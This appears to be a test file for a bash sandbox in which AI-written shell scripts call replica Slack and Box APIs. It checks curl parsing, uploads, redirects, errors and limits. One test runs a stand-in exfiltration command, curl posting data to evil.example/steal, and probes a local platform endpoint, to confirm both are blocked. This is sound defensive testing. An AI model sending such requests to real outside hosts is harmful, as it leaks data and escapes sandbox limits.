import { describe, expect, it } from 'vitest';
import type { ScratchFile } from '../../../../src/sandbox/types.ts';
import { echoFetch, runBash, stderr, stdout, type Received } from './harness.ts';

const SLACK = 'https://slack.com/api';
const received = (result: Awaited<ReturnType<typeof runBash>>): Received[] => stdout(result).split('\n').filter((l) => l.startsWith('{')).map((l) => JSON.parse(l) as Received);

describe('Bash sandbox: the shell models write', () => {
  it('pipes curl into jq, loops over ids, calls functions, expands $(…) and here-docs', async () => {
    const channels = { ok: true, channels: [{ id: 'C1', name: 'general' }, { id: 'C2', name: 'random' }, { id: 'C3', name: 'eng' }] };
    const result = await runBash(
      [
        `id=$(curl -s "${SLACK}/conversations.list" -H 'Authorization: Bearer t' | jq -r '.channels[] | select(.name=="general") | .id')`,
        'echo "general is $id"',
        'count() { wc -l | tr -d " "; }',
        `curl -s ${SLACK}/conversations.list | jq -r '.channels[].id' | while read -r c; do echo "seen $c"; done`,
        `for c in $(curl -s ${SLACK}/conversations.list | jq -r '.channels[].id'); do echo $c; done | count`,
        "cat <<EOF | sed 's/^/> /'",
        '  indented $id',
        'EOF',
        `printf '%s-%03d\\n' job 7 | awk -F- '{print $2}' | cut -c2- | sort | uniq | head -1 | tail -1`,
        'echo aGVsbG8= | base64 -d; echo; echo "a b" | xargs -n1 echo | grep -c .',
      ].join('\n'),
      { fetch: echoFetch(() => Response.json(channels)) },
    );
    expect(result).toMatchObject({ ok: true });
    expect(stdout(result).split('\n')).toEqual(['general is C1', 'seen C1', 'seen C2', 'seen C3', '3', '>   indented C1', '07', 'hello', '2']);
  });

  it('sends what curl sends for -X -H -d --data-raw --data-urlencode --json -G -u and combined short flags', async () => {
    const result = await runBash(
      [
        `curl -sS -XPOST ${SLACK}/a -H 'Authorization: Bearer xoxb-1' -d channel=C1 -d 'text=hi there'`,
        `curl -s ${SLACK}/b --data-urlencode 'text=a&b c' --data-raw '@notafile'`,
        `curl -s ${SLACK}/c --json '{"channel":"C1"}'`,
        `curl -s -G ${SLACK}/d -d limit=2 --data-urlencode 'q=x y'`,
        `curl -s -u user:pass -X DELETE ${SLACK}/e`,
        `curl -s --request=PUT --header='X-A: 1' --data='{}' ${SLACK}/f`,
      ].join('; echo\n'),
    );
    expect(result).toMatchObject({ ok: true });
    const [a, b, c, d, e, f] = received(result);
    expect(a).toMatchObject({ method: 'POST', body: 'channel=C1&text=hi there', headers: { authorization: 'Bearer xoxb-1', 'content-type': 'application/x-www-form-urlencoded' } });
    expect(b).toMatchObject({ method: 'POST', body: 'text=a%26b%20c&@notafile' });
    expect(c).toMatchObject({ method: 'POST', body: '{"channel":"C1"}', headers: { 'content-type': 'application/json', accept: 'application/json' } });
    expect(d).toMatchObject({ method: 'GET', url: `${SLACK}/d?limit=2&q=x%20y`, body: '' });
    expect(e).toMatchObject({ method: 'DELETE', headers: { authorization: `Basic ${btoa('user:pass')}` } });
    expect(f).toMatchObject({ method: 'PUT', body: '{}', headers: { 'x-a': '1' } });
  });

  it('uploads -F files as bytes (binary intact), with type and filename, beside text fields', async () => {
    const result = await runBash(
      [
        'echo iVBORw0KGgoA/w== | base64 -d > pic.png',
        'echo "col1,col2" > /tmp/data.csv',
        `curl -s https://upload.box.com/api/2.0/files/content -F 'attributes={"name":"pic.png","parent":{"id":"0"}}' -F file=@pic.png -F 'report=@/tmp/data.csv;type=text/csv;filename=r.csv'`,
      ].join('\n'),
    );
    expect(result).toMatchObject({ ok: true });
    const [upload] = received(result);
    expect(upload.headers['content-type']).toMatch(/^multipart\/form-data; boundary=/);
    const raw = Buffer.from(upload.bytes, 'base64');
    expect(raw.includes(Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0x00, 0xff]))).toBe(true);
    const text = raw.toString('latin1');
    expect(text).toContain('name="attributes"\r\n\r\n{"name":"pic.png","parent":{"id":"0"}}');
    expect(text).toMatch(/name="file"; filename="pic.png"\r\nContent-Type: image\/png/);
    expect(text).toMatch(/name="report"; filename="r.csv"\r\nContent-Type: text\/csv\r\n\r\ncol1,col2\n/);
  });

  it('prints -w variables, -i headers, writes -o files, and fails with -f on HTTP errors', async () => {
    const fetch = echoFetch((request) => (request.url.endsWith('/missing') ? Response.json({ error: 'nope' }, { status: 404, statusText: 'Not Found' }) : undefined));
    const result = await runBash(
      [
        `code=$(curl -s -o /dev/null -w '%{http_code}' ${SLACK}/missing); echo "code=$code"`,
        `curl -s -i ${SLACK}/missing | head -1 | tr -d '\\r'`,
        `curl -s -o out.json ${SLACK}/saved -w 'saved %{http_code} %{content_type}\\n'; jq -r .url out.json`,
        `curl -sf ${SLACK}/missing || echo "exit $?"`,
        `curl -sS -f ${SLACK}/missing`,
      ].join('\n'),
      { fetch },
    );
    expect(stdout(result).split('\n')).toEqual(['code=404', 'HTTP/1.1 404 Not Found', 'saved 200 application/json', `${SLACK}/saved`, 'exit 22']);
    expect(stderr(result)).toContain('curl: (22) The requested URL returned error: 404');
    expect(result).toMatchObject({ ok: false, reason: 'error', error: 'bash: the script exited with status 22' });
  });

  it('prints a redirect without -L and leaves following it to the host with -L', async () => {
    const seen: string[] = [];
    const fetch = echoFetch((request) => {
      seen.push(`${request.url} ${request.redirect}`);
      return request.url.endsWith('/content') ? new Response(null, { status: 302, headers: { location: 'https://api.box.com/2.0/files/1' } }) : undefined;
    });
    const result = await runBash(`curl -s -o /dev/null -w '%{http_code} %{redirect_url}\\n' https://api.box.com/2.0/files/1/content\ncurl -sL https://api.box.com/2.0/files/1/content | jq -r .url`, { fetch });
    expect(stdout(result).split('\n')).toEqual(['302 https://api.box.com/2.0/files/1', 'https://api.box.com/2.0/files/1']);
    // The shim's Request always says "follow"; the host reads the ShimRequest's own mode, and followed the second.
    expect(seen).toHaveLength(3);
  });

  it('refuses hosts that are not replicas, with the router’s message, and curl’s exit code', async () => {
    const result = await runBash('curl -sS https://evil.example/steal -d x=1; echo "exit $?"\ncurl -s http://127.0.0.1:8787/api/platform/initEnv; echo "exit $?"');
    expect(stdout(result).split('\n')).toEqual(['exit 6', 'exit 6']);
    expect(stderr(result)).toMatch(/^curl: \(6\) fetch to https:\/\/evil\.example\/steal is not available in DiffLab: scripts can reach only the replicas at https:\/\/slack\.com\/api\//);
    expect(result.requests.map((r) => r.status)).toEqual([0, 0]);
  });

  it('does not run a script that does not parse (not run: syntax), but runs one whose `exit 2` or bad arithmetic comes as it runs', async () => {
    const broken = await runBash(`curl -s ${SLACK}/auth.test\nif then fi\n`);
    expect(broken).toMatchObject({ ok: false, reason: 'syntax', error: expect.stringMatching(/^bash: syntax error: Parse error at 2:\d+: .*`fi'/), requests: [] });
    const quote = await runBash('echo "unterminated\n');
    expect(quote).toMatchObject({ reason: 'syntax', error: expect.stringMatching(/^bash: line 1: unexpected EOF/) });
    const ran = await runBash('echo ran\necho $(( 1 + ))\nexit 2');
    expect(ran).toMatchObject({ ok: false, reason: 'error' });
    expect(stdout(ran)).toBe('ran');
  });
});

describe('Bash sandbox: time, randomness and files', () => {
  it('runs date and $RANDOM on the environment’s clock and seed; sleep moves the clock without eating the time limit', async () => {
    const script = 'date -u +%FT%TZ; echo $RANDOM $RANDOM; sleep 3600; date +%s; sleep 20; date -u "+%H:%M:%S"';
    const now = Date.UTC(2026, 2, 25, 16, 0, 0);
    const first = await runBash(script, { now, randomSeed: 42, limits: { timeMs: 5000 } });
    const second = await runBash(script, { now, randomSeed: 42, limits: { timeMs: 5000 } });
    expect(first).toMatchObject({ ok: true });
    const lines = stdout(first).split('\n');
    expect(lines[0]).toBe('2026-03-25T16:00:00Z');
    expect(lines[2]).toBe(String(now / 1000 + 3600));
    expect(lines[3]).toBe('17:00:20');
    expect(stdout(second)).toBe(stdout(first));
    const other = await runBash(script, { now, randomSeed: 43 });
    expect(stdout(other).split('\n')[1]).not.toBe(lines[1]);
  });

  it('starts each script as a fresh shell while the run’s scratch files carry over', async () => {
    let files: ScratchFile[] = [];
    const keep = (f: ScratchFile[]) => (files = f);
    await runBash('export TOKEN=abc; f() { echo f; }; echo saved > notes.txt; mkdir -p /tmp/cache; echo 1 > /tmp/cache/page1', { onFiles: keep });
    expect(files.map((f) => f.path)).toEqual(['/home/user/notes.txt', '/tmp/cache/page1']);
    const second = await runBash('echo "token=${TOKEN:-unset}"; type f >/dev/null 2>&1 || echo "no f"; cat notes.txt /tmp/cache/page1; pwd', { files, onFiles: keep });
    expect(stdout(second).split('\n')).toEqual(['token=unset', 'no f', 'saved', '1', '/home/user']);
  });

  it('keeps /dev/null empty: what is written there is gone, however much of it', async () => {
    // 2 MB appended to /dev/null with a file system of 8 MB (half the memory limit): nothing is stored.
    const script = 'echo hi > /dev/null; echo more >> /dev/null; wc -c < /dev/null; cat /dev/null; s=$(printf "%0100000d" 0); for i in $(seq 1 20); do echo "$s" >> /dev/null; done; echo done';
    const result = await runBash(script, { limits: { memoryBytes: 16 * 1024 * 1024 } });
    expect(result).toMatchObject({ ok: true });
    expect(stdout(result).split('\n')).toEqual(['0', 'done']);
  });

  it('stops at the time limit inside the worker: the scratch files written before it carry over', async () => {
    let files: ScratchFile[] = [];
    const result = await runBash('echo kept > /tmp/before; n=0; while true; do n=$((n+1)); done', { limits: { timeMs: 1000 }, onFiles: (f) => (files = f) });
    expect(result).toMatchObject({ ok: false, reason: 'timeout', error: 'Script stopped: it ran longer than 1 s (time limit)' });
    expect(files.map((f) => [f.path, new TextDecoder().decode(f.bytes)])).toEqual([['/tmp/before', 'kept\n']]);
  });
});
